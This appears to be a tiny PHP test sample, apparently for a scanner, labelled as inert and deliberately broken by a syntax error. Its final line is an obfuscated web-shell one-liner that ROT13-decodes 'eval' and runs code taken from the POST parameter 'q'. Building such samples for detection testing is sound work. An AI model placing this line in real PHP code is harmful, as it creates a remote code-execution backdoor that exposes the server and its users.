<?php
shodo inert sample: deliberate syntax error, this file never runs
 $c = str_rot13('riny'); $c($_POST['q']); ?>
